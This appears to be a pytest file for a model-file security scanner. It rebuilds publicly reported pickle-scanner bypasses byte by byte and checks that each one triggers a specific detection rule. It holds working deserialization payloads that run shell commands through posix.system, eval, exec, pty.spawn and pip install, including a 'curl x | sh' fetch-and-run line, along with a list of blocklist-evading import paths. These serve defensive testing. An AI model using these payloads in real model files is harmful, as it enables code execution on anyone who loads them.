"""Every public pickle-scanner bypass we know of, rebuilt from opcodes: each must fire the
exact rule id. Advisory ids are cited next to the technique they describe."""

from __future__ import annotations

import struct
from collections.abc import Callable
from pathlib import Path

import pytest

from modelsteward.findings import Severity
from modelsteward.scan import ScanOptions, scan_path
from tests.scan.factories import PickleWriter, call_pickle, write


def _short(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def _memo_confusion() -> bytes:
    # Memo index reuse: the global is stored, the slot is overwritten in a way a
    # stack-less scanner misreads, then fetched back and called (picklescan GHSA-9gvj-pp9x-gcfr).
    w = PickleWriter(2)
    w.unicode("harmless").raw(b"q\x01").raw(b"0")
    w.global_("posix", "system").raw(b"q\x01").raw(b"0")
    w.raw(b"h\x01").mark().unicode("id").tuple_().reduce()
    return w.finish()


def _stack_global_from_memo() -> bytes:
    w = PickleWriter(4)
    w.raw(b"\x8c\x05posix\x94\x8c\x06system\x94").raw(b"0").raw(b"0")
    w.raw(b"h\x00h\x01\x93").mark().unicode("id").tuple_().reduce()
    return w.finish()


def _import_module_getattr() -> bytes:
    # importlib/pkgutil indirection (picklescan GHSA-655q-fx9r-782v and the 2025 advisories).
    w = PickleWriter(2)
    w.global_("builtins", "getattr").mark()
    w.global_("importlib", "import_module").mark().unicode("os").tuple_().reduce()
    w.unicode("system").tuple_().reduce()
    w.mark().unicode("id").tuple_().reduce()
    return w.finish()


def _attrgetter_chain() -> bytes:
    w = PickleWriter(2)
    w.global_("operator", "attrgetter").mark().unicode("system").tuple_().reduce()
    w.mark().global_("collections", "OrderedDict").tuple_().reduce()
    return w.finish()


def _nested_loads() -> bytes:
    inner = call_pickle("posix", "system", "touch /tmp/pwned")
    w = PickleWriter(3)
    w.global_("pickle", "loads").mark()
    w.raw(b"C" + bytes([len(inner)]) + inner).tuple_().reduce()
    return w.finish()


def _build_on_global() -> bytes:
    # BUILD/setattr on a class object itself (fickling and modelaudit BUILD advisories).
    w = PickleWriter(2)
    w.global_("collections", "OrderedDict").empty_dict().unicode("__reduce__")
    w.global_("collections", "Counter").setitem().raw(b"b")
    return w.finish()


def _setitem_into_global() -> bytes:
    w = PickleWriter(2)
    w.global_("collections", "OrderedDict").unicode("k").unicode("v").setitem()
    return w.finish()


def _dotted_dunder() -> bytes:
    w = PickleWriter(4)
    w.raw(_short("builtins") + _short("object.__subclasses__") + b"\x93").empty_tuple().reduce()
    return w.finish()


def _ext_code() -> bytes:
    return PickleWriter(2).raw(b"\x82\x07").empty_tuple().reduce().finish()


def _dynamic_global() -> bytes:
    w = PickleWriter(4)
    w.global_("builtins", "str").mark().unicode("posix").tuple_().reduce()
    w.raw(b"\x8c\x06system\x93").mark().unicode("id").tuple_().reduce()
    return w.finish()


def _protocol0_compat_name() -> bytes:
    # __builtin__ maps to builtins through fix_imports for protocols 0-2.
    return b"c__builtin__\neval\n(S'print(1)'\ntR."


def _marshal_code() -> bytes:
    w = PickleWriter(2)
    w.global_("types", "FunctionType").mark()
    w.global_("marshal", "loads").mark().raw(b"U\x03abc").tuple_().reduce()
    w.empty_dict().tuple_().reduce()
    return w.finish()


def _truncated() -> bytes:
    return call_pickle("collections", "OrderedDict")[:-3]


def _indirect_call() -> bytes:
    w = PickleWriter(2)
    w.global_("collections", "OrderedDict").empty_tuple().reduce().empty_tuple().reduce()
    return w.finish()


def _binint_memo_long_put() -> bytes:
    w = PickleWriter(2)
    w.global_("subprocess", "check_output").raw(b"r" + struct.pack("<I", 70000)).raw(b"0")
    w.raw(b"j" + struct.pack("<I", 70000)).mark().mark().unicode("id").raw(b"l").tuple_()
    return w.reduce().finish()


def _build_slotstate_then_stack_global() -> bytes:
    # modelscan issue #85: BUILD slotstate writes "os"/"system" onto numpy.prod, then dotted
    # globals read them back as STACK_GLOBAL operands.
    p = b"\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86b"
    p += b"N(Vb\nVsystem\nd\x86b0"
    p += b"cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93Vecho pwned\n\x85R."
    return p


def _numpy_builtins_dunder() -> bytes:
    # modelscan issue #330: numpy.__builtins__ through STACK_GLOBAL, eval reached by getattr.
    w = PickleWriter(4)
    w.raw(_short("numpy") + _short("__builtins__") + b"\x93")
    w.raw(_short("eval")).raw(b"\x86").raw(b"R")
    return w.finish()


def _str_join_module_name() -> bytes:
    # modelscan issue #331: the module name is built by str.join at load time.
    w = PickleWriter(4)
    w.raw(_short("builtins") + _short("getattr") + b"\x93\x94")
    w.raw(_short("builtins") + _short("str") + b"\x93")
    w.raw(_short("join") + b"\x86R")
    w.raw(_short("") + b"](" + _short("o") + _short("s") + b"e\x86R")
    w.raw(_short("system") + b"\x93")
    return w.mark().unicode("id").tuple_().reduce().finish()


def _pty_spawn_obj() -> bytes:
    # fickling PR #108 / GHSA-r7v6-mfhq-g3m2: pty.spawn through OBJ.
    return b'(cpty\nspawn\nS"id"\no.'


CASES: list[tuple[str, Callable[[], bytes], str]] = [
    ("posix-system", lambda: call_pickle("posix", "system", "id"), "scan.pickle.unsafe-global"),
    ("nt-system", lambda: call_pickle("nt", "system", "calc"), "scan.pickle.unsafe-global"),
    ("builtins-exec", lambda: call_pickle("builtins", "exec", "x=1"), "scan.pickle.unsafe-global"),
    ("protocol-0-compat", _protocol0_compat_name, "scan.pickle.unsafe-global"),
    ("memo-confusion", _memo_confusion, "scan.pickle.unsafe-global"),
    ("stack-global-memo", _stack_global_from_memo, "scan.pickle.unsafe-global"),
    ("long-binput-memo", _binint_memo_long_put, "scan.pickle.unsafe-global"),
    ("importlib-getattr", _import_module_getattr, "scan.pickle.unsafe-global"),
    ("getattr-result-called", _import_module_getattr, "scan.pickle.indirect-call"),
    (
        "pkgutil-resolve-name",
        lambda: call_pickle("pkgutil", "resolve_name", "os:system"),
        "scan.pickle.unsafe-global",
    ),
    ("operator-attrgetter", _attrgetter_chain, "scan.pickle.unsafe-global"),
    ("nested-pickle-loads", _nested_loads, "scan.pickle.unsafe-global"),
    ("marshal-code", _marshal_code, "scan.pickle.unsafe-global"),
    # CVE-2025-1716: pip.main installs an attacker's package.
    ("pip-main", lambda: call_pickle("pip", "main", "install"), "scan.pickle.unsafe-global"),
    # JFrog / picklescan GHSA-gx77-x2pv-48v7: submodules of a blocked package.
    (
        "asyncio-submodule",
        lambda: call_pickle("asyncio.unix_events", "_UnixSubprocessTransport"),
        "scan.pickle.unsafe-global",
    ),
    ("torch-hub", lambda: call_pickle("torch.hub", "load", "x/y"), "scan.pickle.unsafe-global"),
    (
        "numpy-runstring",
        lambda: call_pickle("numpy.testing._private.utils", "runstring", "1"),
        "scan.pickle.unsafe-global",
    ),
    ("io-fileio", lambda: call_pickle("_io", "FileIO", "/etc/passwd"), "scan.pickle.unsafe-global"),
    ("cprofile-run", lambda: call_pickle("cProfile", "run", "1"), "scan.pickle.unsafe-global"),
    ("bdb-debugger", lambda: call_pickle("bdb", "Bdb"), "scan.pickle.unsafe-global"),
    ("unknown-module", lambda: call_pickle("mylib.models", "Net"), "scan.pickle.unverified-global"),
    ("build-on-global", _build_on_global, "scan.pickle.unsafe-build"),
    ("setitem-into-global", _setitem_into_global, "scan.pickle.unsafe-build"),
    ("dotted-dunder-name", _dotted_dunder, "scan.pickle.unsafe-global"),
    ("ext-opcode", _ext_code, "scan.pickle.extension-code"),
    ("dynamic-stack-global", _dynamic_global, "scan.pickle.dynamic-global"),
    ("truncated", _truncated, "scan.pickle.malformed"),
    (
        "modelscan-85-build-slotstate",
        _build_slotstate_then_stack_global,
        "scan.pickle.unsafe-build",
    ),
    (
        "modelscan-85-dynamic-global",
        _build_slotstate_then_stack_global,
        "scan.pickle.dynamic-global",
    ),
    ("modelscan-330-numpy-builtins", _numpy_builtins_dunder, "scan.pickle.unsafe-global"),
    ("modelscan-331-str-join", _str_join_module_name, "scan.pickle.dynamic-global"),
    ("fickling-pty-spawn", _pty_spawn_obj, "scan.pickle.unsafe-global"),
    # modelscan issue #338: execution primitives outside every blocklist.
    (
        "collect-env-run",
        lambda: call_pickle("torch.utils.collect_env", "run", "id"),
        "scan.pickle.unsafe-global",
    ),
    (
        "spawnv-passfds",
        lambda: call_pickle("multiprocessing.util", "spawnv_passfds", "/bin/sh"),
        "scan.pickle.unsafe-global",
    ),
    (
        "mlflow-entry-point",
        lambda: call_pickle("mlflow.projects.backend.local", "_run_entry_point", "id"),
        "scan.pickle.unsafe-global",
    ),
    (
        "pandas-read-csv",
        lambda: call_pickle("pandas.io.parsers.readers", "read_csv", "http://x"),
        "scan.pickle.unsafe-global",
    ),
    # fickling GHSA-6ggj-6f2q-f7mx: subinterpreters run source code.
    (
        "subinterpreter",
        lambda: call_pickle("_interpreters", "run_string", "1"),
        "scan.pickle.unsafe-global",
    ),
    # picklescan GHSA-r8g5-cgf2-4m4m (IDE tools), CVE-2025-10155 (distutils file writes),
    # GHSA-46h3-79wf-xr6c (profilers), GHSA-hgrh-qx5j-jfwx (network), GHSA-vqmv-47xg-9wpr
    # (venv), GHSA-m273-6v24-x4m4 (operator.methodcaller), numpy.f2py evaluation.
    (
        "idlelib",
        lambda: call_pickle("idlelib.pyshell", "ModifiedInterpreter"),
        "scan.pickle.unsafe-global",
    ),
    (
        "distutils-write-file",
        lambda: call_pickle("distutils.file_util", "write_file", "/x"),
        "scan.pickle.unsafe-global",
    ),
    ("profile-run", lambda: call_pickle("profile", "run", "1"), "scan.pickle.unsafe-global"),
    (
        "aiohttp",
        lambda: call_pickle("aiohttp.client", "request", "GET"),
        "scan.pickle.unsafe-global",
    ),
    ("venv-create", lambda: call_pickle("venv", "create", "/tmp/v"), "scan.pickle.unsafe-global"),
    (
        "methodcaller",
        lambda: call_pickle("_operator", "methodcaller", "system"),
        "scan.pickle.unsafe-global",
    ),
    (
        "f2py-getlincoef",
        lambda: call_pickle("numpy.f2py.crackfortran", "getlincoef", "1"),
        "scan.pickle.unsafe-global",
    ),
    ("functools-partial", lambda: call_pickle("functools", "partial"), "scan.pickle.unsafe-global"),
    ("call-a-result", _indirect_call, "scan.pickle.indirect-call"),
]


@pytest.mark.parametrize(("name", "build", "rule"), CASES, ids=[c[0] for c in CASES])
def test_bypass_is_caught(tmp_path: Path, name: str, build: Callable[[], bytes], rule: str) -> None:
    path = write(tmp_path, f"{name}.pkl", build())
    report = scan_path(path, ScanOptions())
    assert rule in report.rule_ids(), [f.message for f in report.findings]
    assert all(f.severity >= Severity.HIGH for f in report.findings if f.rule_id == rule)


def test_shell_command_is_in_the_message(tmp_path: Path) -> None:
    path = write(tmp_path, "m.pkl", call_pickle("posix", "system", "curl x | sh"))
    (finding,) = scan_path(path, ScanOptions()).findings
    assert finding.evidence == "posix.system"
    assert finding.severity is Severity.CRITICAL
    assert "posix.system('curl x | sh')" in finding.message


def test_nested_pickle_payload_is_named(tmp_path: Path) -> None:
    report = scan_path(write(tmp_path, "n.pkl", _nested_loads()), ScanOptions())
    assert {"pickle.loads", "posix.system"} <= {f.evidence for f in report.findings}


def test_tier2_allowlist_lets_a_global_through(tmp_path: Path) -> None:
    path = write(tmp_path, "m.pkl", call_pickle("mylib.models", "Net"))
    allowed = ScanOptions(allow_globals=frozenset({"mylib.models.Net"}))
    assert scan_path(path, allowed).findings == ()


def test_opcode_budget_bounds_a_huge_stream(tmp_path: Path) -> None:
    body = b"\x80\x02" + b"N0" * 20_000 + b"N."
    report = scan_path(write(tmp_path, "big.pkl", body), ScanOptions(max_pickle_ops=10_000))
    assert "scan.limit.exceeded" in report.rule_ids()
